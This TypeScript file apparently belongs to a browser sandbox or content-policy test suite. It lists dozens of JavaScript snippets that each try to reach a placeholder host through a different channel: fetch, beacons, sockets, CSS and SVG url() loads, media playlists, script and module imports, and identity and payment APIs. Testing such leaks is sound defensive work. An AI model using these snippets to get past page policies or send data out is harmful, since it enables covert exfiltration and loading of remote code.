import type { SnippetGroup } from '../snippet';

/** Requests, which leak to the host that gets them. */
export const REQUESTS: SnippetGroup = {
  title: 'send requests',
  snippets: [
    { name: 'fetches the site', code: `return await (await fetch(SITE + '?leak')).text()` },
    {
      name: 'fetches elsewhere',
      code: `return await fetch('http://' + TCP, { method: 'POST', mode: 'no-cors', body: 'leak' })`,
    },
    {
      name: 'uses XMLHttpRequest',
      code: `const r = new XMLHttpRequest(); r.open('GET', 'http://' + TCP, false); r.send(); return r.status`,
    },
    { name: 'sends a beacon', code: `navigator.sendBeacon('http://' + TCP, 'leak')` },
    { name: 'fetches later', code: `fetchLater('http://' + TCP, { activateAfter: 0 })` },
    {
      name: 'opens a socket',
      code: `return await new Promise((done, fail) => { const s = new WebSocket('ws://' + TCP); s.onopen = () => done('open'); s.onerror = () => fail(new TypeError()); })`,
    },
    {
      name: 'opens an event source',
      code: `return await new Promise((done, fail) => { const s = new EventSource('http://' + TCP); s.onopen = () => done('open'); s.onerror = () => fail(new TypeError()); })`,
    },
    {
      name: 'opens a transport',
      code: `await new WebTransport('https://' + UDP).ready; return 'open'`,
    },
    { name: 'loads an image', code: `new Image().src = 'http://' + TCP + '/a.png'` },
    {
      name: 'loads an image of a drawing',
      code: `stage.innerHTML = '<svg><image href="http://' + TCP + '/a.png" /><use href="http://' + TCP + '/a.svg#a" /></svg>'`,
    },
    {
      name: 'loads films, sounds and their words',
      code: `for (const tag of ['video', 'audio']) stage.innerHTML += '<' + tag + ' src="http://' + TCP + '/a" poster="http://' + TCP + '/b" autoplay><track default src="http://' + TCP + '/c"></' + tag + '>'`,
    },
    {
      name: 'loads a script',
      code: `const s = document.createElement('script'); s.src = 'http://' + TCP + '/a.js'; document.head.append(s)`,
    },
    {
      name: 'imports a module',
      code: `return await new Function('address', 'return import(address)')('http://' + TCP + '/a.js')`,
    },
    {
      name: 'loads styles, pictures and fonts of styles',
      code: `const s = document.createElement('style'); const a = 'url(http://' + TCP + '/a)'; s.textContent = '@import ' + a + '; @font-face { font-family: leak; src: ' + a + ' } [data-stage] { font-family: leak; background: ' + a + '; cursor: ' + a + ', auto; list-style-image: ' + a + ' }'; document.head.append(s)`,
    },
    {
      name: 'loads a stylesheet, an icon and a manifest',
      code: `for (const rel of ['stylesheet', 'icon', 'manifest', 'prefetch', 'preload', 'modulepreload', 'prerender', 'next']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = 'http://' + TCP + '/' + rel; document.head.append(l); }`,
    },
    {
      name: 'starts a worker',
      code: `return await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('works'); w.onerror = () => fail(new TypeError()); })`,
    },
    {
      name: 'starts a shared worker',
      code: `return await new Promise((done, fail) => { const w = new SharedWorker('data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)'); w.port.onmessage = () => done('works'); w.onerror = () => fail(new TypeError()); })`,
    },
    {
      name: 'starts a worklet',
      code: `await new AudioContext().audioWorklet.addModule('http://' + TCP + '/a.js'); return 'works'`,
    },
    {
      name: 'embeds a page, an object and a plug-in',
      code: `for (const [tag, key] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['frame', 'src'], ['fencedframe', 'src']]) { const e = document.createElement(tag); e.setAttribute(key, 'http://' + TCP + '/' + tag); stage.append(e); }`,
    },
    {
      name: 'reads through a reader of documents',
      code: `const d = new DOMParser().parseFromString('<img src="http://' + TCP + '/a.png"><link rel=stylesheet href="http://' + TCP + '/a.css">', 'text/html'); stage.append(...d.body.children, ...d.head.children)`,
    },
    {
      name: 'reports a broken policy',
      code: `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri http://" + TCP; document.head.append(m); new Image().src = 'data:,'`,
      alone: true,
    },
    {
      name: 'plays a list of films that are elsewhere',
      code: `const list = '#EXTM3U\\n#EXT-X-TARGETDURATION:9\\n#EXTINF:9,\\nhttp://' + TCP + '/leak.ts\\n#EXT-X-ENDLIST\\n'; for (const type of ['application/vnd.apple.mpegurl', 'audio/mpegurl']) for (const src of ['data:' + type + ';base64,' + btoa(list), URL.createObjectURL(new Blob([list], { type }))]) { const v = document.createElement('video'); v.autoplay = v.muted = true; v.src = src; stage.append(v); } await new Promise((done) => setTimeout(done, 900))`,
    },
    {
      name: 'plays a description of films that are elsewhere',
      code: `const v = document.createElement('video'); v.autoplay = v.muted = true; v.src = 'data:application/dash+xml;base64,' + btoa('<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="9"><BaseURL>http://' + TCP + '/leak.mp4</BaseURL><SegmentBase indexRange="0-99"/></Representation></AdaptationSet></Period></MPD>'); stage.append(v); await new Promise((done) => setTimeout(done, 900))`,
    },
    {
      name: 'loads a picture by every property of styles',
      code: `const url = 'url("http://' + TCP + '/?leak")'; for (const name of [...getComputedStyle(stage), 'mask', 'background', 'border-image', 'content']) for (const value of [url, url + ', auto', 'image-set(' + url + ' 1x)', '-webkit-cross-fade(' + url + ', ' + url + ', 50%)', url.replace('")', '#a")')]) { const d = document.createElement('b'); d.style.setProperty(name, value); if (d.style.length) stage.append(d); }`,
    },
    {
      name: 'loads by a sheet of its own, a font of its own and a registered property',
      code: `const url = 'url(http://' + TCP + '/?leak)'; const s = new CSSStyleSheet(); s.replaceSync('@import ' + url + '; @page { background: ' + url + ' } b::before { content: ' + url + ' }'); document.adoptedStyleSheets.push(s); CSS.registerProperty({ name: '--leak', syntax: '<image>', inherits: false, initialValue: 'none' }); stage.innerHTML = '<b style="--leak: ' + url + '; background: var(--leak)">b</b>'; await new FontFace('leak', url).load(); return 'loaded'`,
    },
    {
      name: 'loads by a filter of a canvas',
      code: `const c = document.createElement('canvas').getContext('2d'); c.filter = 'url(http://' + TCP + '/?leak#a)'; c.fillRect(0, 0, 9, 9); stage.append(c.canvas)`,
    },
    {
      name: 'loads by every part of a drawing',
      code: `const a = 'http://' + TCP + '/?leak'; stage.innerHTML = '<svg><filter id=f><feImage href="' + a + '" /></filter><rect width=9 height=9 filter="url(#f)" fill="url(' + a + '#a)" mask="url(' + a + '#a)" clip-path="url(' + a + '#a)" marker-start="url(' + a + '#a)" /><script href="' + a + '"></' + 'script><style>@import url(' + a + ')</style><pattern href="' + a + '#a" /><textPath href="' + a + '#a">x</textPath><image xlink:href="' + a + '" /></svg><math><mglyph src="' + a + '" /></math>'`,
    },
    {
      name: 'loads by old and rare attributes',
      code: `const a = 'http://' + TCP + '/?leak'; stage.innerHTML = '<table background="' + a + '"><td background="' + a + '"></table><input type=image src="' + a + '"><picture><source srcset="' + a + '"><img src="data:,"></picture><img srcset="' + a + ' 1x" lowsrc="' + a + '"><video><source src="' + a + '"></video><img src="data:," attributionsrc="' + a + '"><link rel=preload as=image imagesrcset="' + a + '"><link rel=apple-touch-icon href="' + a + '"><link rel=compression-dictionary href="' + a + '"><link rel=search type="application/opensearchdescription+xml" href="' + a + '">'; document.body.background = a`,
    },
    {
      name: 'loads by an instruction of the document',
      code: `for (const type of ['text/css', 'text/xsl']) document.insertBefore(document.createProcessingInstruction('xml-stylesheet', 'type="' + type + '" href="http://' + TCP + '/?leak"'), document.documentElement)`,
      alone: true,
    },
    {
      name: 'imports by a map, from data and from a blob',
      code: `const s = document.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({ imports: { leak: 'http://' + TCP + '/leak.js' } }); document.head.append(s); const load = new Function('a', 'return import(a)'); await Promise.any(['leak', 'data:text/javascript,1', URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))].map(load)); return 'imported'`,
    },
    {
      name: 'imports data, styles and bytes',
      code: `const load = new Function('a', 'type', 'return import(a, { with: { type } })'); await Promise.any([...['json', 'css', 'text'].map((type) => load('http://' + TCP + '/?leak', type)), WebAssembly.compileStreaming(fetch('http://' + TCP + '/?leak'))]); return 'imported'`,
    },
    {
      name: 'asks other parties who the reader is',
      code: `const ask = [() => navigator.credentials.get({ identity: { providers: [{ configURL: 'http://' + TCP + '/?leak', clientId: 'x' }] } }), () => new PaymentRequest([{ supportedMethods: 'http://' + TCP + '/?leak' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(), () => navigator.joinAdInterestGroup({ owner: 'http://' + TCP, name: 'x' }, 9)]; for (const each of ask) try { await Promise.race([each(), new Promise((done) => setTimeout(done, 200))]); } catch {}`,
    },
    {
      name: 'transforms a document',
      code: `const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://' + TCP + '/a.xsl"/></xsl:stylesheet>', 'text/xml'))`,
    },
  ],
};
